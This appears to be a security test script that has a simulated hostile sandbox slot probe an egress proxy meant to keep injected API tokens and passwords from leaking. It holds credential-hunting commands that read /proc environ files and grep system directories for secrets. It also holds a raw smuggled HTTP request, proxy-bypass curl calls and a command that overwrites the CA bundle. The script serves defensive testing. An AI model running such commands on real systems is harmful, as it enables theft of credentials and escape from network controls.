"""A slot that wants the secrets of its hosts. Run as root, as a program, as `world`; prints what its commands printed,
and what hosts got."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

from atropos.slots import EgressSecret, Slot, SlotPoolConfig
from tests.egress.world import DIRECT, FAR, internet, is_our_proxy, slots
from tests.security.tenants import ALICE, BOB, ask, key, serving
from tests.waiting import until

CHANGED = "tok-5e71f0c6b2a94d38"
TOKEN, KEY, PASSWORD = "tok-4f9a1c77e2b05d63", "key-b8812d04f6c9e35a", "pass-0d7e61fa93c2"
PLAIN, TLS = "http://files.example.org:8081", "https://files.example.org:8443"
SECRETS = (
    EgressSecret(hosts=("files.example.org:8081",), value=f"Bearer {TOKEN}"),
    EgressSecret(hosts=("files.example.org:8081",), header="X-Api-Key", value=KEY),
    EgressSecret.basic(["files.example.org:8443"], "deploy", PASSWORD, tls=True),
)
GET = "curl -sS -m 30 "
RAW = """
import socket, ssl, sys
s = socket.create_connection(("files.example.org", 8443))
if sys.argv[1] == "tls":
    s = ssl.create_default_context().wrap_socket(s, server_hostname="files.example.org")
s.sendall(b"GET http://other.example.net/raw HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n\\r\\n")
while data := s.recv(65536):
    sys.stdout.buffer.write(data)
"""
"""Connects without the proxy, and asks for more than it may."""
COMMANDS = {
    "plain": f"{GET} -i -H 'Authorization: Bearer mine' {PLAIN}/echo {PLAIN}/headers",
    "tls": f"{GET} -i -d a=b {TLS}/echo {TLS}/escaped",
    "python": f"python3 -c \"import urllib.request as r; print(r.urlopen('{TLS}/python').read().decode())\"",
    "redirect": f"{GET} -L {PLAIN}/redirect",
    "other": f"{GET} -k http://other.example.net:8081/other https://other.example.net:8443/other",
    "address": f"{GET} -k http://{FAR}:8081/address https://{FAR}:8443/address",
    "another name": f"{GET} -k --connect-to files.example.org:8443:other.example.net:8443 {TLS}/sni",
    "unknown authority": f"{GET} https://other.example.net:8443/unknown",
    "raw": "python3 /tmp/raw.py tls; python3 /tmp/raw.py plain",
}
"""What a slot does that looks for secrets."""
LOOK = (
    "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
    f"grep -rlaE '{TOKEN[:12]}|{KEY[:12]}|{PASSWORD[:9]}' /etc /run /tmp /root /home /var /workspace /dev/shm 2>/dev/null; "
    "cat /etc/ssl/certs/ca-certificates.crt | grep -c PRIVATE"
)


@contextlib.contextmanager
def echoes(far: int, folder: str) -> Iterator[Path]:
    """The hosts that send back what they are asked; yields what they have seen."""
    authority, seen = Path(folder, "authority.pem"), Path(folder, "seen")
    seen.touch()
    program = [sys.executable, "-m", "tests.egress.echo", str(authority), str(seen)]
    there = subprocess.Popen(
        ["nsenter", "--net", "--target", str(far), *program], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    try:
        assert there.stdout is not None
        assert there.stdout.readline() == b"ready\n"
        os.chmod(folder, 0o755)
        os.environ["SSL_CERT_FILE"] = str(authority)
        yield seen
    finally:
        there.kill()
        there.wait()


async def tried(slot: Slot, commands: dict[str, str]) -> dict[str, str]:
    """What each printed, by the proxy and, under its name and `direct`, without."""
    await slot.write_file("/tmp/raw.py", RAW.encode())
    found: dict[str, str] = {}
    for name, command in commands.items():
        found[name] = (await slot.exec(command, timeout_s=60)).output
        found[f"{name} direct"] = (await slot.exec(DIRECT + command, timeout_s=60)).output
    return found


async def wants() -> dict[str, object]:
    """Everything that such a slot tries; and after each of what may befall it, that its requests still have their
    secrets."""
    found: dict[str, object] = {}
    allow = [f"{host}:{port}" for host in ("files.example.org", "other.example.net", FAR) for port in (8081, 8443)]
    async with slots(egress_allow=allow) as pool:
        async with pool.lease("has", secrets=SECRETS) as slot, pool.lease("neighbour") as neighbour:
            found["printed"] = await tried(slot, COMMANDS)
            found["looked"] = (await slot.exec(LOOK)).output
            events = await slot.start(f"{GET} -N {PLAIN}/events")
            found["event"] = (await events.read(wait_s=20)).decode()
            await events.kill()
            found["neighbour"] = (await neighbour.exec(f"{GET} {PLAIN}/neighbour; {GET} -k {TLS}/neighbour")).output
            again = f"{GET} {PLAIN}/again; {GET} {TLS}/again"
            for pid in [pid for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if is_our_proxy(pid)]:
                os.kill(pid, 9)
            while (await slot.exec(f"{GET} {PLAIN}/restarted")).exit_code:  # noqa: ASYNC110
                await asyncio.sleep(0.1)
            found["restarted"] = (await slot.exec(again)).output
            await slot.set_network(["files.example.org"])
            snapshot = await slot.snapshot()
            found["frozen"] = (await slot.exec(again)).output
            found["status"] = repr((slot, pool, snapshot, SECRETS))
        async with pool.lease("fork", snapshot=snapshot) as fork:
            found["fork"] = (await fork.exec(f"{GET} {PLAIN}/fork; {GET} -k {TLS}/fork")).output
        async with pool.lease("judged", secrets=SECRETS) as judged:
            await judged.exec("echo mine > /workspace/note; echo '' > /etc/ssl/certs/ca-certificates.crt")
            await judged.view(["/workspace"])
            there = f"cat note; {GET} {PLAIN}/view; {GET} {TLS}/view; python3 -c \"import urllib.request as r; r.urlopen('{TLS}/view')\""
            found["view"] = (await judged.exec(there)).output
            found["view looked"] = (await judged.exec(LOOK)).output
        async with pool.lease("off", network=False, secrets=SECRETS) as off:
            found["off"] = (await off.exec(LOOK)).output
    return found


async def keyed(folder: Path) -> dict[str, object]:
    """Two keys of a server, one with a secret, whose file is changed while the server runs."""
    file = folder / "token"
    file.write_text(f"{TOKEN}\n")
    mine = {"git": {"hosts": ["files.example.org:8081"], "file": str(file), "prefix": "Bearer "}}
    pool = SlotPoolConfig(
        backend="local", max_containers=1, allow_network=True, egress_allow=["files.example.org:8081"]
    )
    found: dict[str, object] = {}
    async with serving(folder, {"alice": key(ALICE, secrets=mine), "bob": key(BOB)}, pool=pool) as world:

        async def get(who: str, path: str) -> None:
            _, _, content = await ask(world.app, who, "POST", "/trajectories", {})
            trajectory = json.loads(content)["trajectory_id"]
            call = {"name": "terminal", "arguments": {"command": f"{GET} {PLAIN}{path}"}}
            found[path] = (await ask(world.app, who, "POST", f"/trajectories/{trajectory}/calls", call))[2].decode()
            await ask(world.app, who, "DELETE", f"/trajectories/{trajectory}")

        await get(ALICE, "/alice")
        await get(BOB, "/bob")
        file.write_text(CHANGED)
        tenant = world.app.state.tenants._tenants["alice"]
        await until(
            lambda: CHANGED in tenant.account.share.secrets[0].value.get_secret_value(), "the file is read again"
        )
        await get(ALICE, "/changed")
        file.unlink()
        await asyncio.sleep(2)
        await get(ALICE, "/kept")
        found["audit"] = (folder / "audit.jsonl").read_text()
        found["usage"] = (await ask(world.app, ALICE, "GET", "/usage"))[2].decode()
    return found


if __name__ == "__main__":
    logging.basicConfig(level=logging.DEBUG)
    with internet() as far, tempfile.TemporaryDirectory() as folder, echoes(far, folder) as seen:
        found = asyncio.run(wants()) | {"keyed": asyncio.run(keyed(Path(folder)))}
        print(json.dumps(found | {"seen": seen.read_text().splitlines()}))
